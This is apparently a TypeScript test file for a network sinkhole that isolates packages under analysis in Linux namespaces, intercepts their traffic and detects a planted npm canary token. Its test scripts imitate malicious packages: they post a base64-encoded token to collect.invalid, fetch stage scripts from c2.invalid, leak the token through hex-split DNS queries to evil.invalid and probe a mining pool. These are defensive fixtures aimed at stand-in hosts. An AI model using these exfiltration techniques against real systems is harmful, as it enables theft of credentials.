import { type ChildProcess, execFile, spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { z } from 'zod';
import { SinkholeRecord } from '../channels.ts';
import { encodeConfig, issueLeaf, makeCa, type SinkholeConfig, sinkholeArguments } from './index.ts';

const run = promisify(execFile);
const value = 'npm_7Hq2ZxT9bLw4Kd8VnR5sYc1MfJ3gPa6Eu0Xo';
const ca = makeCa();
const folder = mkdtempSync(join(tmpdir(), 'sinkhole-'));
const caPath = join(folder, 'ca.pem');
const socketPath = join(folder, 'mirror.sock');
let mirror: Server;

beforeAll(async () => {
  writeFileSync(caPath, ca.certPem);
  writeFileSync(join(folder, 'resolv.conf'), 'nameserver 192.168.178.1\noptions timeout:2 attempts:1\n');
  mirror = createServer((request, response) => response.end(`mirrored ${request.url}`));
  await new Promise<void>((resolve) => mirror.listen(socketPath, resolve));
});
afterAll(() => {
  mirror.close();
  rmSync(folder, { recursive: true });
});

const setUp = [
  'ip link set lo up',
  'ip route add local 0.0.0.0/0 dev lo',
  'ip -6 route add local ::/0 dev lo',
  `mount --bind ${folder}/resolv.conf /etc/resolv.conf`,
  'exec "$@"',
].join(' && ');

/** A sinkhole in namespaces of its own. */
class Room {
  readonly records: SinkholeRecord[] = [];
  readonly #child: ChildProcess;
  readonly #ended: Promise<void>;

  private constructor(child: ChildProcess) {
    this.#child = child;
    this.#ended = new Promise((resolve) => child.once('close', () => resolve()));
  }

  static async open(extra: Partial<z.input<typeof SinkholeConfig>>): Promise<Room> {
    const command = ['-Urnm', 'sh', '-c', setUp, 'sh', process.execPath, ...sinkholeArguments()];
    const room = new Room(spawn('unshare', command, { stdio: ['pipe', 'pipe', 'inherit'] }));
    room.#child.stdin!.write(
      encodeConfig({
        run: 'r0',
        egress: 'sinkhole',
        ca,
        mirrors: [
          { host: 'registry.test', port: 443, tls: true, socketPath, leaf: issueLeaf(ca, 'registry.test') },
          { host: 'localhost', port: 4873, tls: false, socketPath },
        ],
        canaries: [{ id: 'c1', kind: 'npm_token', value }],
        identity: { user: 'u', fullName: 'U', email: 'u@x.example', organisation: 'o', packages: [] },
        geo: { ip: '203.0.113.9', country: 'DE', region: 'B', city: 'B', timeZone: 'UTC', languages: 'de' },
        ...extra,
      }),
    );
    await new Promise<void>((resolve, reject) => {
      room.#child.once('exit', (code) => reject(new Error(`the sinkhole ended with ${code}`)));
      createInterface({ input: room.#child.stdout! }).on('line', (line) => {
        const record = SinkholeRecord.parse(JSON.parse(line));
        room.records.push(record);
        if (record.kind === 'ready') resolve();
      });
    });
    return room;
  }

  /** Runs a program in the room; its JSON output. */
  async node(script: string): Promise<Record<string, unknown>> {
    const enter = ['-t', String(this.#child.pid), '-U', '--preserve-credentials', '-n', '-m'];
    const args = [...enter, process.execPath, '--input-type=module', '-e', `${prelude}\n${script}`];
    const { stdout } = await run('nsenter', args, { env: { NODE_EXTRA_CA_CERTS: caPath }, timeout: 30_000 });
    return JSON.parse(stdout) as Record<string, unknown>;
  }

  all<K extends SinkholeRecord['kind']>(kind: K): Extract<SinkholeRecord, { kind: K }>[] {
    return this.records.filter((record): record is Extract<SinkholeRecord, { kind: K }> => record.kind === kind);
  }

  /** Orders the sinkhole to stop and waits for its last record. */
  async close(): Promise<void> {
    this.#child.removeAllListeners('exit');
    this.#child.stdin!.end();
    await this.#ended;
  }
}

/** What the package's side of each test is written with. */
const prelude = `
import net from 'node:net'; import dns from 'node:dns/promises'; import dgram from 'node:dgram'; import http from 'node:http';
const text = async (url, init) => { try { return await (await fetch(url, init)).text(); } catch (error) { return String(error.cause?.code ?? error.code ?? error); } };
const dial = (port, host, bytes) => new Promise((resolve) => {
  const socket = net.connect(port, host, () => { if (bytes) socket.end(bytes); });
  let heard = ''; socket.on('data', (chunk) => { heard += chunk; });
  socket.on('error', (error) => resolve(error.code)).on('close', () => resolve(heard));
});
const say = (value) => process.stdout.write(JSON.stringify(value));
`;

describe('with redirection', () => {
  test('names, direct addresses, every port, TLS and UDP are answered and recorded with what was meant', async () => {
    const room = await Room.open({});
    const heard = await room.node(`
      const body = JSON.stringify({ token: btoa('${value}') });
      say({
        name: await text('http://collect.invalid/u', { method: 'POST', body }),
        tls: await text('https://cdn.invalid/stage.js'),
        odd: await text('http://c2.invalid:39123/x.sh'),
        direct: await text('http://203.0.113.77:8080/'),
        v6: await text('http://[2001:db8::7]:9999/'),
        raw: await dial(31337, '198.51.100.3', '\\x00hello'),
        mail: (await dial(25, 'mail.invalid', 'QUIT\\r\\n')).slice(0, 3),
      });
      const socket = dgram.createSocket('udp4');
      socket.send('ping', 4567, '203.0.113.5', () => socket.close());
    `);
    await room.close();
    expect(room.all('ready')[0]).toMatchObject({ anyPort: true });
    expect(heard).toMatchObject({ tls: "console.log('inert answer of run r0');\n", mail: '220' });
    const requests = room.all('http').map(({ scheme, host, method }) => `${method} ${scheme}://${host}`);
    expect(requests).toEqual([
      'POST http://collect.invalid',
      'GET https://cdn.invalid',
      'GET http://c2.invalid',
      'GET http://203.0.113.77',
      'GET http://2001:db8::7',
    ]);
    expect(room.all('http')[0]?.canaryHits).toEqual([{ canary: 'c1', encoding: 'base64', where: 'body' }]);
    expect(room.all('tls')).toMatchObject([{ sni: 'cdn.invalid', decrypted: true }]);
    const asked = room.all('dns').find(({ name, type }) => name === 'collect.invalid' && type === 'A');
    expect(room.all('http')[0]?.ip).toBe(asked?.address);
    const targets = room.all('connection').map(({ protocol, ip }) => `${protocol} ${ip}`);
    expect(targets).toContain('tcp 198.51.100.3');
    expect(targets).toContain('udp 203.0.113.5');
    // A port with a door of its own is known to everybody; others only where the kernel's table may be read.
    expect(room.all('http')[3]?.port).toBe(8080);
    expect([0, 39_123]).toContain(room.all('http')[2]?.port);
  });

  test("a package's own server answers its own client, and a closed local port stays closed", async () => {
    const room = await Room.open({});
    const heard = await room.node(`
      const server = http.createServer((request, response) => response.end('mine')).listen(8080);
      await new Promise((resolve) => server.on('listening', resolve));
      say({ own: await text('http://127.0.0.1:8080/'), closed: await dial(8081, '127.0.0.1'), web: await dial(80, '127.0.0.1') });
      server.close();
    `);
    await room.close();
    expect(heard).toEqual({ own: 'mine', closed: 'ECONNREFUSED', web: 'ECONNREFUSED' });
    expect(room.all('connection')).toEqual([]);
  });

  test('data in name queries is found; a registry on the machine itself is mirrored', async () => {
    const room = await Room.open({});
    const heard = await room.node(`
      const parts = Buffer.from('${value}').toString('hex').match(/.{1,30}/g);
      for (const [at, part] of parts.entries()) await dns.lookup(part + '.' + at + '.t.evil.invalid');
      say({ mirror: await text('https://registry.test/left-pad?x=1'), local: await text('http://localhost:4873/pad') });
    `);
    await room.close();
    expect(heard).toEqual({ mirror: 'mirrored /left-pad', local: 'mirrored /pad' });
    expect(room.all('dns').flatMap(({ canaryHits }) => canaryHits)).toContainEqual({
      canary: 'c1',
      encoding: 'split+hex',
      where: 'dns',
    });
    expect(room.all('http').map(({ egress }) => egress)).toEqual(['mirror', 'mirror']);
    expect(room.all('tls')).toMatchObject([{ sni: 'registry.test', decrypted: true }]);
  });
});

test('without redirection, well-known ports are answered and others are closed', async () => {
  const room = await Room.open({ nft: null, ports: [39_200] });
  const heard = await room.node(`
    say({
      web: (await text('http://collect.invalid/')).length > 0,
      miner: (await dial(3333, 'pool.invalid', '{"id":1,"method":"mining.subscribe"}\\n')).includes('result'),
      own: (await text('http://c2.invalid:39200/')).length > 0,
      odd: await dial(39123, 'c2.invalid'),
      loopback: await dial(80, '127.0.0.1', 'GET / HTTP/1.1\\r\\n\\r\\n'),
    });
  `);
  await room.close();
  expect(room.all('ready')[0]).toMatchObject({ anyPort: false });
  expect(heard).toMatchObject({ web: true, miner: true, own: true, odd: 'ECONNREFUSED' });
  expect(['', 'ECONNRESET']).toContain(heard.loopback);
  expect(room.all('connection').map(({ host }) => host)).toEqual(['collect.invalid', 'pool.invalid', 'c2.invalid']);
});

test('with egress blocked, names have addresses, the mirror answers, and everything else is refused at once', async () => {
  const room = await Room.open({ egress: 'blocked' });
  const heard = await room.node(`
    say({
      name: (await dns.lookup('collect.invalid', 4)).address.slice(0, 4),
      web: await text('http://collect.invalid/'),
      direct: await dial(4444, '203.0.113.9'),
      other: await dial(80, 'registry.test'),
      mirror: await text('https://registry.test/left-pad'),
      publish: await text('https://registry.test/left-pad', { method: 'PUT', body: '{"_attachments":{}}' }),
    });
  `);
  await room.close();
  expect(heard).toMatchObject({ name: '198.', web: 'ECONNREFUSED', direct: 'ECONNREFUSED', other: 'ECONNREFUSED' });
  expect(heard.mirror).toBe('mirrored /left-pad');
  expect(heard.publish).toContain('permission');
  expect(room.all('dns').map(({ name }) => name)).toContain('collect.invalid');
  expect(room.all('http').map(({ response }) => response.status)).toEqual([200, 403]);
});

test('without IPv6, names have IPv4 addresses only and are answered on them', async () => {
  const room = await Room.open({ ipv6: false });
  const heard = await room.node(`
    say({ all: (await dns.lookup('collect.invalid', { all: true })).length, web: (await text('http://collect.invalid/')).length > 0 });
  `);
  await room.close();
  expect(heard).toEqual({ all: 1, web: true });
});

test('a configuration line that is no configuration ends the program with a reason', async () => {
  const child = spawn(process.execPath, sinkholeArguments(), { stdio: ['pipe', 'ignore', 'pipe'] });
  let errors = '';
  child.stderr.on('data', (chunk: Buffer) => {
    errors += chunk.toString();
  });
  child.stdin.end('not json\n');
  expect(await new Promise((resolve) => child.once('close', resolve))).toBe(1);
  expect(errors).toMatch(/JSON/);
});
